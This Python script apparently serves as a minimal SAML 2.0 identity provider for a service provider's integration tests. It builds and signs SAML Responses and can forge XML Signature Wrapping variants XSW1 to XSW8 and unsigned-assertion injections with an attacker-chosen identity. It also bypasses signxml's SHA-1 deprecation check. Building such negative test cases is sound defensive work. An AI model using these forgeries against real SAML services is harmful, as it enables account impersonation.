#!/usr/bin/env python3
"""Minimal SAML 2.0 IdP signer for authctl's integration tests.

Reads one JSON object on stdin and writes a signed SAML <samlp:Response> (for the HTTP-POST
binding) on stdout: base64 (standard alphabet, one line, no trailing newline) by default, or the
raw XML with "output": "xml". Bad input: a message on stderr and exit status 2; other failures
exit 1. See tests/saml/README.md for the input fields.

Needs lxml and signxml 5.2.0: run scripts/saml-idp-setup.sh and use <venv>/bin/python.
"""

import base64
import copy
import datetime
import json
import secrets
import sys

try:
    from cryptography.hazmat.primitives.asymmetric import ec, rsa
    from cryptography.hazmat.primitives.serialization import load_pem_private_key
    from lxml import etree
    from signxml import DigestAlgorithm, SignatureMethod, XMLSigner, methods
except ImportError as exc:  # pragma: no cover - environment problem
    sys.stderr.write(
        f"idp.py: cannot import {exc.name}: run scripts/saml-idp-setup.sh and use the venv's python "
        "(target/saml-venv/bin/python by default)\n"
    )
    sys.exit(1)

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"
XS = "http://www.w3.org/2001/XMLSchema"
XSI = "http://www.w3.org/2001/XMLSchema-instance"

EXC_C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"
SUCCESS = "urn:oasis:names:tc:SAML:2.0:status:Success"
EMAIL_FORMAT = "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress"
BEARER = "urn:oasis:names:tc:SAML:2.0:cm:bearer"
PASSWORD_PROTECTED = "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport"
ATTR_BASIC = "urn:oasis:names:tc:SAML:2.0:attrname-format:basic"

# name -> (signature method, digest, key class)
ALGORITHMS = {
    "rsa-sha256": (SignatureMethod.RSA_SHA256, DigestAlgorithm.SHA256, rsa.RSAPrivateKey),
    "rsa-sha1": (SignatureMethod.RSA_SHA1, DigestAlgorithm.SHA1, rsa.RSAPrivateKey),
    "ecdsa-sha256": (SignatureMethod.ECDSA_SHA256, DigestAlgorithm.SHA256, ec.EllipticCurvePrivateKey),
}

KEY_KINDS = {rsa.RSAPrivateKey: "an RSA", ec.EllipticCurvePrivateKey: "an EC"}

_MISSING = object()
# field -> (accepted JSON types, default; _MISSING = required). None in the types means null is allowed.
FIELDS = {
    "key": ((str,), _MISSING),
    "cert": ((str,), _MISSING),
    "issuer": ((str,), _MISSING),
    "name_id": ((str,), _MISSING),
    "destination": ((str, None), None),
    "recipient": ((str, None), None),
    "audience": ((str, None), None),
    "in_response_to": ((str, None), None),
    "name_id_format": ((str,), EMAIL_FORMAT),
    "attributes": ((dict,), {}),
    "sign_response": ((bool,), True),
    "sign_assertion": ((bool,), True),
    "algorithm": ((str,), "rsa-sha256"),
    "clock_offset": ((int,), 0),
    "issue_instant_offset": ((int,), 0),
    "not_before_offset": ((int,), -60),
    "not_on_or_after_offset": ((int,), 300),
    "assertion_id": ((str, None), None),
    "response_id": ((str, None), None),
    "session_index": ((str, None), None),
    "authn_context": ((str,), PASSWORD_PROTECTED),
    "status": ((str,), SUCCESS),
    "extra_unsigned_assertion": ((bool,), False),
    "xsw": ((int, None), None),
    "evil_name_id": ((str, None), None),
    "output": ((str,), "base64"),
}


class BadInput(Exception):
    pass


class _SHA1Signer(XMLSigner):
    """XMLSigner that accepts RSA-SHA1 / SHA-1.

    signxml 5 refuses SHA-1 only in XMLSigner.check_deprecated_methods(), called from __init__;
    the signing code itself supports SHA-1 (its algorithm tables map RSA_SHA1 and SHA1 to
    hashes.SHA1 and sign() uses PKCS#1 v1.5 for every RSA_* method). Overriding that one hook
    yields a standard http://www.w3.org/2000/09/xmldsig#rsa-sha1 signature with sha1 digests.
    Test use only: SHA-1 signatures exist here so the SP can be tested against legacy IdPs.
    """

    def check_deprecated_methods(self):
        pass


def q(ns, tag):
    return f"{{{ns}}}{tag}"


def new_id():
    return "_" + secrets.token_hex(20)


def instant(t):
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def parse_input(raw):
    try:
        req = json.loads(raw)
    except ValueError as exc:
        raise BadInput(f"stdin is not valid JSON: {exc}") from None
    if not isinstance(req, dict):
        raise BadInput("stdin must hold one JSON object")
    unknown = sorted(set(req) - set(FIELDS))
    if unknown:
        raise BadInput(f"unknown field(s): {', '.join(unknown)} (known: {', '.join(sorted(FIELDS))})")
    out = {}
    for name, (types, default) in FIELDS.items():
        if name not in req:
            if default is _MISSING:
                raise BadInput(f"missing required field '{name}'")
            out[name] = copy.deepcopy(default)
            continue
        value = req[name]
        if value is None:
            if None not in types:
                raise BadInput(f"field '{name}' must not be null")
            out[name] = None
            continue
        ok = any(t is not None and isinstance(value, t) for t in types)
        # bool is a subclass of int in Python; an int field must not take true/false.
        if isinstance(value, bool) and bool not in types:
            ok = False
        if not ok:
            wanted = " or ".join("null" if t is None else t.__name__ for t in types)
            raise BadInput(f"field '{name}' must be {wanted}, got {json.dumps(value)}")
        out[name] = value

    for name in ("key", "cert", "issuer", "assertion_id", "response_id"):
        if out[name] == "":
            raise BadInput(f"field '{name}' must not be empty")
    for name, values in out["attributes"].items():
        if not isinstance(values, list) or not all(isinstance(v, str) for v in values):
            raise BadInput(f"attribute '{name}' must map to a list of strings")
    if out["algorithm"] not in ALGORITHMS:
        raise BadInput(f"algorithm must be one of {', '.join(ALGORITHMS)}, got '{out['algorithm']}'")
    if out["output"] not in ("base64", "xml"):
        raise BadInput("output must be 'base64' or 'xml'")
    if not (out["sign_response"] or out["sign_assertion"]) and (out["xsw"] or out["extra_unsigned_assertion"]):
        raise BadInput("xsw and extra_unsigned_assertion need a signature (sign_response or sign_assertion)")
    if out["xsw"] is not None:
        if not 1 <= out["xsw"] <= 8:
            raise BadInput("xsw must be an integer from 1 to 8")
        if out["xsw"] <= 2 and not out["sign_response"]:
            raise BadInput(f"xsw {out['xsw']} wraps the signed Response: it needs sign_response true")
        if out["xsw"] >= 3 and not out["sign_assertion"]:
            raise BadInput(f"xsw {out['xsw']} wraps the signed Assertion: it needs sign_assertion true")
        if out["extra_unsigned_assertion"]:
            raise BadInput("xsw and extra_unsigned_assertion cannot be combined")
    if (out["xsw"] is not None or out["extra_unsigned_assertion"]) and out["evil_name_id"] is None:
        raise BadInput("xsw and extra_unsigned_assertion need evil_name_id")
    if out["assertion_id"] is None:
        out["assertion_id"] = new_id()
    if out["response_id"] is None:
        out["response_id"] = new_id()
    if out["assertion_id"] == out["response_id"]:
        raise BadInput("assertion_id and response_id must differ")
    if out["session_index"] is None:
        out["session_index"] = new_id()
    return out


def load_key_and_cert(req):
    try:
        with open(req["key"], "rb") as f:
            key_pem = f.read()
        with open(req["cert"], "r", encoding="ascii") as f:
            cert_pem = f.read()
    except OSError as exc:
        raise BadInput(f"cannot read key/cert: {exc}") from None
    try:
        key = load_pem_private_key(key_pem, password=None)
    except (ValueError, TypeError) as exc:
        raise BadInput(f"{req['key']} is not an unencrypted PEM private key: {exc}") from None
    key_class = ALGORITHMS[req["algorithm"]][2]
    if not isinstance(key, key_class):
        raise BadInput(f"algorithm {req['algorithm']} needs {KEY_KINDS[key_class]} key, {req['key']} holds another kind ({type(key).__name__})")
    if "-----BEGIN CERTIFICATE-----" not in cert_pem:
        raise BadInput(f"{req['cert']} is not a PEM certificate")
    return key, cert_pem


def build_response(req):
    now = datetime.datetime.now(datetime.timezone.utc).replace(microsecond=0)
    now += datetime.timedelta(seconds=req["clock_offset"])
    issue_instant = instant(now + datetime.timedelta(seconds=req["issue_instant_offset"]))
    not_before = instant(now + datetime.timedelta(seconds=req["not_before_offset"]))
    not_on_or_after = instant(now + datetime.timedelta(seconds=req["not_on_or_after_offset"]))

    response = etree.Element(q(SAMLP, "Response"), nsmap={"samlp": SAMLP, "saml": SAML})
    response.set("ID", req["response_id"])
    response.set("Version", "2.0")
    response.set("IssueInstant", issue_instant)
    if req["destination"] is not None:
        response.set("Destination", req["destination"])
    if req["in_response_to"] is not None:
        response.set("InResponseTo", req["in_response_to"])
    etree.SubElement(response, q(SAML, "Issuer")).text = req["issuer"]
    status = etree.SubElement(response, q(SAMLP, "Status"))
    etree.SubElement(status, q(SAMLP, "StatusCode"), Value=req["status"])

    # xs and xsi are declared on the Assertion so it stays self-contained (xsi:type="xs:string").
    assertion = etree.SubElement(response, q(SAML, "Assertion"), nsmap={"saml": SAML, "xs": XS, "xsi": XSI})
    assertion.set("ID", req["assertion_id"])
    assertion.set("Version", "2.0")
    assertion.set("IssueInstant", issue_instant)
    etree.SubElement(assertion, q(SAML, "Issuer")).text = req["issuer"]

    subject = etree.SubElement(assertion, q(SAML, "Subject"))
    name_id = etree.SubElement(subject, q(SAML, "NameID"), Format=req["name_id_format"])
    name_id.text = req["name_id"]
    confirmation = etree.SubElement(subject, q(SAML, "SubjectConfirmation"), Method=BEARER)
    data = etree.SubElement(confirmation, q(SAML, "SubjectConfirmationData"))
    if req["in_response_to"] is not None:
        data.set("InResponseTo", req["in_response_to"])
    data.set("NotOnOrAfter", not_on_or_after)
    if req["recipient"] is not None:
        data.set("Recipient", req["recipient"])

    if req["audience"] is not None:
        conditions = etree.SubElement(
            assertion, q(SAML, "Conditions"), NotBefore=not_before, NotOnOrAfter=not_on_or_after
        )
        restriction = etree.SubElement(conditions, q(SAML, "AudienceRestriction"))
        etree.SubElement(restriction, q(SAML, "Audience")).text = req["audience"]

    authn = etree.SubElement(
        assertion, q(SAML, "AuthnStatement"), AuthnInstant=issue_instant, SessionIndex=req["session_index"]
    )
    context = etree.SubElement(authn, q(SAML, "AuthnContext"))
    etree.SubElement(context, q(SAML, "AuthnContextClassRef")).text = req["authn_context"]

    # The schema wants at least one Attribute in an AttributeStatement: none when there are none.
    if req["attributes"]:
        statement = etree.SubElement(assertion, q(SAML, "AttributeStatement"))
        for name, values in req["attributes"].items():
            attribute = etree.SubElement(statement, q(SAML, "Attribute"), Name=name, NameFormat=ATTR_BASIC)
            for value in values:
                av = etree.SubElement(attribute, q(SAML, "AttributeValue"))
                av.set(q(XSI, "type"), "xs:string")
                av.text = value
    return response


def child(parent, ns, tag):
    return parent.find(q(ns, tag))


def signature_of(element):
    """The enveloped ds:Signature that is a direct child of element, or None."""
    return child(element, DS, "Signature")


def insert_placeholder(element):
    """Put <ds:Signature Id="placeholder"/> right after element's Issuer (schema order), where
    signxml will build the signature instead of appending it as the last child."""
    placeholder = etree.Element(q(DS, "Signature"), nsmap={"ds": DS}, Id="placeholder")
    child(element, SAML, "Issuer").addnext(placeholder)


def sign(response, req, key, cert_pem):
    sig_method, digest, _ = ALGORITHMS[req["algorithm"]]
    signer_class = _SHA1Signer if req["algorithm"] == "rsa-sha1" else XMLSigner
    signer = signer_class(
        method=methods.enveloped,
        signature_algorithm=sig_method,
        digest_algorithm=digest,
        c14n_algorithm=EXC_C14N,
    )
    # The Assertion first, so that the Response signature covers the Assertion's signature too.
    # signxml signs a copy of the tree it is given and returns that copy; only one placeholder may
    # exist at a time, so the Response's is added after the Assertion is signed.
    if req["sign_assertion"]:
        insert_placeholder(child(response, SAML, "Assertion"))
        response = signer.sign(response, key=key, cert=cert_pem, reference_uri=req["assertion_id"], id_attribute="ID")
    if req["sign_response"]:
        insert_placeholder(response)
        response = signer.sign(response, key=key, cert=cert_pem, reference_uri=req["response_id"], id_attribute="ID")
    return response


def make_evil(assertion, req, *, keep_signature=False):
    """Turn (a copy of) the assertion into the attacker's: a fresh ID, NameID = evil_name_id, and
    every AttributeValue equal to the original name_id (the e-mail) replaced by evil_name_id.
    Its own signature is dropped unless keep_signature (XSW5, 6 and 8 keep the original
    ds:Signature, which still references the original ID, inside the evil assertion)."""
    assertion.set("ID", new_id())
    name_id = assertion.find(f"{q(SAML, 'Subject')}/{q(SAML, 'NameID')}")
    name_id.text = req["evil_name_id"]
    for av in assertion.iter(q(SAML, "AttributeValue")):
        if av.text == req["name_id"]:
            av.text = req["evil_name_id"]
    if not keep_signature:
        drop_signature(assertion)
    return assertion


def drop_signature(element):
    sig = signature_of(element)
    if sig is not None:
        element.remove(sig)


def unsigned_copy(element):
    """A copy of a signed element without its enveloped signature: what the signature's digest
    covers (enveloped-signature transform), so the original signature still verifies over it."""
    dup = copy.deepcopy(element)
    drop_signature(dup)
    return dup


def add_extra_unsigned_assertion(response, req):
    assertion = child(response, SAML, "Assertion")
    # A Response signature cannot survive an added element; an attacker drops it (see README).
    drop_signature(response)
    assertion.addnext(make_evil(copy.deepcopy(assertion), req))


def apply_xsw(response, req):
    """XML Signature Wrapping variants XSW1..XSW8 of Somorovsky et al., "On Breaking SAML: Be
    Whoever You Want to Be" (USENIX Security 2012), section 5 / figure of the eight attack
    variants (the same layouts SAML Raider's XSW1-8 produce). In each, the legitimately signed
    element is kept unchanged (minus its enveloped signature, which the digest excludes anyway)
    somewhere the signature's ID reference still finds it, and the element an SP is likely to
    process carries evil_name_id and a fresh ID. A signature that the rearrangement necessarily
    breaks (the Response's in XSW3-8, the inner Assertion's in XSW1-2) is dropped, as an attacker
    would, so that the only signature left is the original, still valid one.
    """
    variant = req["xsw"]
    if variant <= 2:
        signature = signature_of(response)
        original = unsigned_copy(response)  # original Response, original ID, genuine assertion
        # The document root becomes the evil Response: fresh ID, evil Assertion (fresh ID, its
        # assertion signature, if any, dropped); it keeps the original Response's ds:Signature.
        response.set("ID", new_id())
        make_evil(child(response, SAML, "Assertion"), req)
        if variant == 1:
            # XSW1: the original Response is placed *inside* the ds:Signature of the evil
            # Response (as a child after KeyInfo, enveloped-signature-like wrapping). The
            # Reference URI="#<original ID>" resolves to it; the evil root is unsigned.
            #   Response(evil) [Issuer, Signature [SignedInfo, SignatureValue, KeyInfo,
            #                   Response(original)], Status, Assertion(evil)]
            signature.append(original)
        else:
            # XSW2: like XSW1 but "detached": the original Response is a sibling placed right
            # before the ds:Signature, as a child of the evil Response.
            #   Response(evil) [Issuer, Response(original), Signature, Status, Assertion(evil)]
            signature.addprevious(original)
        return

    # XSW3-8 attack the Assertion signature; any Response signature would break: drop it.
    drop_signature(response)
    assertion = child(response, SAML, "Assertion")
    signature = signature_of(assertion)
    if variant == 3:
        # XSW3: an evil, unsigned Assertion (fresh ID) is inserted as a sibling *before* the
        # original signed Assertion, so it is the first Assertion in document order.
        #   Response [Issuer, Status, Assertion(evil), Assertion(original, signed)]
        assertion.addprevious(make_evil(copy.deepcopy(assertion), req))
    elif variant == 4:
        # XSW4: the evil Assertion takes the original's place and the original signed Assertion
        # becomes its (last) child: the signed element is wrapped by the evil one.
        #   Response [Issuer, Status, Assertion(evil) [..., Assertion(original, signed)]]
        evil = make_evil(copy.deepcopy(assertion), req)
        assertion.addprevious(evil)
        evil.append(assertion)  # moves it
    elif variant == 5:
        # XSW5: the Assertion in place is made evil but keeps the original ds:Signature (which
        # references the original ID); an unsigned copy of the original Assertion is appended as
        # the last child of the Response, where the reference finds it.
        #   Response [Issuer, Status, Assertion(evil) [Issuer, Signature(-> original), ...],
        #             Assertion(original, unsigned copy)]
        original = unsigned_copy(assertion)
        make_evil(assertion, req, keep_signature=True)
        response.append(original)
    elif variant == 6:
        # XSW6: like XSW5, but the copy of the original Assertion is put *inside* the evil
        # Assertion's ds:Signature (as its last child, after KeyInfo).
        #   Response [Issuer, Status, Assertion(evil) [Issuer, Signature [SignedInfo,
        #             SignatureValue, KeyInfo, Assertion(original)], Subject(evil), ...]]
        original = unsigned_copy(assertion)
        make_evil(assertion, req, keep_signature=True)
        signature.append(original)
    elif variant == 7:
        # XSW7: an evil, unsigned Assertion is hidden in a samlp:Extensions element (its
        # xs:any namespace="##other" processContents="lax" content escapes schema validation),
        # placed where the schema allows Extensions (after Issuer/Signature, before Status); the
        # original signed Assertion stays in place, untouched.
        #   Response [Issuer, Extensions [Assertion(evil)], Status, Assertion(original, signed)]
        extensions = etree.Element(q(SAMLP, "Extensions"))
        extensions.append(make_evil(copy.deepcopy(assertion), req))
        child(response, SAMLP, "Status").addprevious(extensions)
    elif variant == 8:
        # XSW8: like XSW6, but schema-valid: the copy of the original Assertion goes into a
        # ds:Object element (which allows any content) appended to the evil Assertion's
        # ds:Signature.
        #   Response [Issuer, Status, Assertion(evil) [Issuer, Signature [SignedInfo,
        #             SignatureValue, KeyInfo, Object [Assertion(original)]], Subject(evil), ...]]
        original = unsigned_copy(assertion)
        make_evil(assertion, req, keep_signature=True)
        obj = etree.SubElement(signature, q(DS, "Object"))
        obj.append(original)


def run(raw):
    req = parse_input(raw)
    key, cert_pem = load_key_and_cert(req)
    response = build_response(req)
    response = sign(response, req, key, cert_pem)
    if req["extra_unsigned_assertion"]:
        add_extra_unsigned_assertion(response, req)
    if req["xsw"] is not None:
        apply_xsw(response, req)
    # No XML declaration, no pretty-printing: the signed bytes go out as they are.
    xml = etree.tostring(response, encoding="UTF-8", xml_declaration=False)
    if req["output"] == "xml":
        return xml
    return base64.b64encode(xml)


def main():
    try:
        out = run(sys.stdin.read())
    except BadInput as exc:
        sys.stderr.write(f"idp.py: bad input: {exc}\n")
        return 2
    except Exception as exc:  # noqa: BLE001 - report anything else as a failure with its type
        sys.stderr.write(f"idp.py: error: {type(exc).__name__}: {exc}\n")
        return 1
    sys.stdout.buffer.write(out)
    sys.stdout.buffer.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main())
